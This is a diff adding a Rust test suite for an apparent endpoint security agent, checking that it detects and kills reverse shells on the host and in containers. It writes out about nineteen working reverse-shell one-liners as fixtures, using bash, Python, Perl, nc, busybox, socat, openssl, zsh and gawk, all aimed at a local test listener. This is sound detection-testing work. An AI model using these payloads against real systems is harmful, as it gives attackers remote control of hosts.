@@ -1,0 +1,409 @@
+//! Reverse shells, each on the host and in a container, with its programs under their own names and
+//! under others: a shell is found once, as what it is, and dies where the agent may act.
+
+use vedette_tests::{
+    agent::{Agent, Finding, PATIENCE, Stopped, summary},
+    listener::{FIRST_COMMAND_AFTER, Wire},
+    need::Need,
+    process::{alive, wait_for},
+    remote_shell::RemoteShell,
+    require,
+    tools::{Names, Place, Tools},
+    workspace,
+};
+
+/// Whom the finding may be about.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Subject {
+    /// The shell that answers.
+    Shell,
+    /// The shell that answers or the interpreter that runs it: either has the remote end at its
+    /// standard streams.
+    ShellOrInterpreter,
+}
+
+/// One way to get a shell.
+struct Attack {
+    wire: Wire,
+    subject: Subject,
+    /// Programs beyond those that every machine has.
+    needs: &'static [&'static str],
+    /// The script for these tools that reaches back to the port.
+    script: fn(&Tools, u16) -> String,
+}
+
+impl Attack {
+    const fn new(needs: &'static [&'static str], script: fn(&Tools, u16) -> String) -> Self {
+        Self {
+            wire: Wire::Clear,
+            subject: Subject::Shell,
+            needs,
+            script,
+        }
+    }
+
+    const fn by_an_interpreter(mut self) -> Self {
+        self.subject = Subject::ShellOrInterpreter;
+        self
+    }
+
+    const fn over_tls(mut self) -> Self {
+        self.wire = Wire::Tls;
+        self
+    }
+
+    fn start(&self, place: Place, names: Names) -> RemoteShell {
+        RemoteShell::start(place, names, self.wire, self.script)
+    }
+}
+
+const BASH_REDIRECTED: Attack = Attack::new(&["bash"], |tools, port| {
+    let bash = tools.get("bash");
+    format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
+});
+
+const BASH_READ_LOOP: Attack = Attack::new(&["bash"], |tools, port| {
+    let bash = tools.get("bash");
+    format!(
+        r#"{bash} -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; while read -r line <&5; do eval "$line" >&5 2>&5; done'"#
+    )
+});
+
+const PYTHON: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,subprocess,os
+s=socket.create_connection(("127.0.0.1",{port}))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+subprocess.call(["{sh}","-i"])'"#
+    )
+})
+.by_an_interpreter();
+
+const PYTHON_TERMINAL: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,pty,os
+s=socket.create_connection(("127.0.0.1",{port}))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+pty.spawn("{sh}")'"#
+    )
+})
+.by_an_interpreter();
+
+const PYTHON_PIPES: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,subprocess,threading
+s=socket.create_connection(("127.0.0.1",{port}))
+p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
+def there():
+    while d:=s.recv(4096): p.stdin.write(d)
+    p.stdin.close()
+threading.Thread(target=there,daemon=True).start()
+while d:=p.stdout.read(4096): s.sendall(d)'"#
+    )
+});
+
+const PERL: Attack = Attack::new(&["perl"], |tools, port| {
+    let (perl, sh) = (tools.get("perl"), tools.get("sh"));
+    format!(
+        r#"{perl} -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")||6);
+if(connect(S,sockaddr_in({port},inet_aton("127.0.0.1")))){{
+open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("{sh} -i");}}'"#
+    )
+})
+.by_an_interpreter();
+
+const FIFO_NC: Attack = Attack::new(&["nc"], |tools, port| {
+    let [mkfifo, cat, sh, nc] = ["mkfifo", "cat", "sh", "nc"].map(|name| tools.get(name));
+    let fifo = tools.scratch("f");
+    format!("{mkfifo} {fifo}; {cat} {fifo} | {sh} -i 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
+});
+
+const FIFO_BUSYBOX: Attack = Attack::new(&["busybox"], |tools, port| {
+    let busybox = tools.get("busybox");
+    let fifo = tools.scratch("f");
+    format!(
+        "{busybox} mkfifo {fifo}; {busybox} nc 127.0.0.1 {port} < {fifo} | {busybox} sh > {fifo} 2>&1"
+    )
+});
+
+const BUSYBOX_EXEC: Attack = Attack::new(&["busybox"], |tools, port| {
+    let (busybox, sh) = (tools.get("busybox"), tools.get("sh"));
+    format!("{busybox} nc 127.0.0.1 {port} -e {sh}")
+});
+
+const SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
+    let (socat, sh) = (tools.get("socat"), tools.get("sh"));
+    format!("{socat} TCP:127.0.0.1:{port} EXEC:{sh}")
+});
+
+const SOCAT_TERMINAL: Attack = Attack::new(&["socat"], |tools, port| {
+    let (socat, bash) = (tools.get("socat"), tools.get("bash"));
+    format!("{socat} EXEC:'{bash} -i',pty,stderr,setsid,sigint,sane TCP:127.0.0.1:{port}")
+});
+
+const OPENSSL: Attack = Attack::new(&["openssl"], |tools, port| {
+    let [mkfifo, sh, openssl] = ["mkfifo", "sh", "openssl"].map(|name| tools.get(name));
+    let fifo = tools.scratch("f");
+    format!("{mkfifo} {fifo}; {sh} -i < {fifo} 2>&1 | {openssl} s_client -quiet -connect 127.0.0.1:{port} > {fifo}")
+})
+.over_tls();
+
+const COMPILED: Attack = Attack::new(&["cc"], |tools, port| {
+    let (reverse, sh) = (tools.program("reverse"), tools.get("sh"));
+    format!("{reverse} {port} {sh}")
+});
+
+const COMPILED_PIPES: Attack = Attack::new(&["cc"], |tools, port| {
+    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
+    format!("{relay} {port} {sh} pipes")
+});
+
+const COMPILED_THREADS: Attack = Attack::new(&["cc"], |tools, port| {
+    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
+    format!("{relay} {port} {sh} threads")
+});
+
+const COMPILED_SOCKETPAIR: Attack = Attack::new(&["cc"], |tools, port| {
+    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
+    format!("{relay} {port} {sh} socketpair")
+});
+
+const TWO_CONNECTIONS: Attack = Attack::new(&["nc"], |tools, port| {
+    let [sleep, nc, sh] = ["sleep", "nc", "sh"].map(|name| tools.get(name));
+    format!("{sleep} 60 | {nc} 127.0.0.1 {port} | {sh} | {nc} 127.0.0.1 {port}")
+});
+
+const ZSH: Attack = Attack::new(&["zsh"], |tools, port| {
+    let zsh = tools.get("zsh");
+    format!(
+        "{zsh} -fc 'zmodload zsh/net/tcp; ztcp 127.0.0.1 {port}; {zsh} -f <&$REPLY >&$REPLY 2>&$REPLY'"
+    )
+});
+
+const GAWK: Attack = Attack::new(&["gawk"], |tools, port| {
+    let (gawk, sh) = (tools.get("gawk"), tools.get("sh"));
+    format!(
+        r#"{gawk} 'BEGIN{{s="/inet/tcp/0/127.0.0.1/{port}"
+while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
+    )
+});
+
+/// Without any agent: an attack that yields no shell would prove nothing.
+fn control(attack: &Attack, place: Place, names: Names) {
+    let shell = attack.start(place, names);
+    assert!(
+        shell.shell(PATIENCE).is_some(),
+        "the attack itself does not work ({place:?}, {names:?} names): {}",
+        shell.log()
+    );
+}
+
+/// What is known of one shell after it was observed.
+struct Observed {
+    what: String,
+    shell: u32,
+    root: u32,
+    processes: Vec<u32>,
+    container: Option<String>,
+}
+
+fn observe(agent: &Agent, attack: &Attack, place: Place, names: Names) -> Observed {
+    let what = format!("{place:?}, {names:?} names");
+    let running = attack.start(place, names);
+    let shell = running.shell(PATIENCE);
+    let shell =
+        shell.unwrap_or_else(|| panic!("the attack does not work ({what}): {}", running.log()));
+    let processes = running.processes();
+    agent.expect(
+        &format!("{what}, shell {shell} out of {processes:?}"),
+        |finding| {
+            finding.category() == "reverse-shell"
+                && finding.pid().is_some_and(|pid| processes.contains(&pid))
+        },
+    );
+    let observed = Observed {
+        what,
+        shell,
+        root: running.root(),
+        container: running.container().map(str::to_owned),
+        processes,
+    };
+    drop(running);
+    observed
+}
+
+fn judge_observed(observed: &Observed, attack: &Attack, stopped: &Stopped) {
+    let Observed {
+        what,
+        shell,
+        root,
+        processes,
+        container,
+    } = observed;
+    let about = |finding: &&Finding| {
+        finding
+            .pid()
+            .is_some_and(|pid| processes.contains(&pid) || pid == *shell)
+    };
+    let all: Vec<_> = stopped.findings.iter().filter(about).collect();
+    let said: Vec<_> = all.iter().map(|finding| summary(finding)).collect();
+    assert_eq!(
+        all.len(),
+        1,
+        "one finding a shell ({what}, shell {shell}): {said:#?}"
+    );
+    let finding = all[0];
+    let pid = finding.pid().expect("it was found by its pid");
+    let right =
+        pid == *shell || attack.subject == Subject::ShellOrInterpreter && processes.contains(&pid);
+    assert!(
+        right,
+        "the finding is about the shell {shell} ({what}): {said:#?}"
+    );
+    assert_eq!(finding.category(), "reverse-shell", "{what}: {said:#?}");
+    assert_eq!(
+        finding.container(),
+        container.as_deref(),
+        "{what}: {said:#?}"
+    );
+    assert!(
+        finding.ancestors().contains(root),
+        "{root} is an ancestor ({what}): {said:#?}"
+    );
+    assert_eq!(
+        finding.text("/response/done"),
+        "",
+        "an observer does nothing ({what}): {}",
+        finding.json
+    );
+    let evidence = finding
+        .json
+        .pointer("/evidence")
+        .and_then(|evidence| evidence.as_array());
+    assert!(
+        evidence.is_some_and(|evidence| !evidence.is_empty()),
+        "there is evidence ({what}): {}",
+        finding.json
+    );
+}
+
+fn enforce(agent: &Agent, attack: &Attack, place: Place, names: Names) {
+    let what = format!("enforcing, {place:?}, {names:?} names");
+    let running = attack.start(place, names);
+    assert!(
+        running.listener().connected(PATIENCE).is_some(),
+        "it connects ({what}): {}",
+        running.log()
+    );
+    let known = agent.findings().len();
+    let finding = wait_for(PATIENCE, || {
+        let findings = agent.findings();
+        let own = |finding: &&Finding| {
+            let ours = finding.container() == running.container()
+                || finding.ancestors().contains(&running.root());
+            finding.category() == "reverse-shell"
+                && ours
+                && finding.ancestors().contains(&running.root())
+        };
+        findings.iter().find(own).cloned()
+    });
+    let finding = finding
+        .unwrap_or_else(|| panic!("no finding after {known} ({what}): {}", agent.describe()));
+    let pid = finding.pid().expect("a reverse shell has a process");
+    let dead = wait_for(PATIENCE, || (!alive(pid)).then_some(()));
+    assert!(
+        dead.is_some(),
+        "the shell {pid} is dead ({what}): {}",
+        finding.json
+    );
+    // Until well after the remote end has sent its command.
+    let reply = running.listener().reply(20 * FIRST_COMMAND_AFTER);
+    assert_eq!(
+        reply,
+        None,
+        "the remote end gets no answer ({what}): {}",
+        running.log()
+    );
+    let done = finding
+        .json
+        .pointer("/response/done")
+        .map(ToString::to_string)
+        .unwrap_or_default();
+    assert!(
+        done.contains("kill"),
+        "what was done is in the finding ({what}): {}",
+        finding.json
+    );
+}
+
+fn found_once_and_killed(attack: &Attack, place: Place) {
+    for tool in attack.needs {
+        require!(Need::Tool(tool));
+    }
+    require!(Need::Root, Need::Tool("setsid"));
+    if place == Place::Container {
+        require!(Need::Tool("runc"), Need::Tool("busybox"));
+    }
+    let _alone = workspace::alone();
+    for names in [Names::Own, Names::Others] {
+        control(attack, place, names);
+    }
+    require!(Need::Agent, Need::Kernel);
+
+    let agent = Agent::observing();
+    let observed = [Names::Own, Names::Others].map(|names| observe(&agent, attack, place, names));
+    let stopped = agent.stop();
+    for observed in &observed {
+        judge_observed(observed, attack, &stopped);
+    }
+
+    let agent = Agent::enforcing();
+    for names in [Names::Own, Names::Others] {
+        enforce(&agent, attack, place, names);
+    }
+    let stopped = agent.stop();
+    let accusations = stopped.accusations();
+    assert_eq!(
+        accusations.len(),
+        2,
+        "one finding a shell where it is killed: {accusations:#?}"
+    );
+}
+
+macro_rules! everywhere {
+    ($($name:ident => $attack:ident),+ $(,)?) => {
+        mod host {
+            use super::*;
+            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Host); })+
+        }
+        mod container {
+            use super::*;
+            $(#[test] fn $name() { found_once_and_killed(&$attack, Place::Container); })+
+        }
+    };
+}
+
+everywhere! {
+    bash_redirected => BASH_REDIRECTED,
+    bash_read_loop => BASH_READ_LOOP,
+    python => PYTHON,
+    python_terminal => PYTHON_TERMINAL,
+    python_pipes => PYTHON_PIPES,
+    perl => PERL,
+    fifo_nc => FIFO_NC,
+    fifo_busybox_nc => FIFO_BUSYBOX,
+    busybox_nc_exec => BUSYBOX_EXEC,
+    socat => SOCAT,
+    socat_terminal => SOCAT_TERMINAL,
+    openssl => OPENSSL,
+    compiled => COMPILED,
+    compiled_relay_by_pipes => COMPILED_PIPES,
+    compiled_relay_by_threads => COMPILED_THREADS,
+    compiled_relay_by_socketpair => COMPILED_SOCKETPAIR,
+    two_connections => TWO_CONNECTIONS,
+    zsh => ZSH,
+    gawk => GAWK,
+}
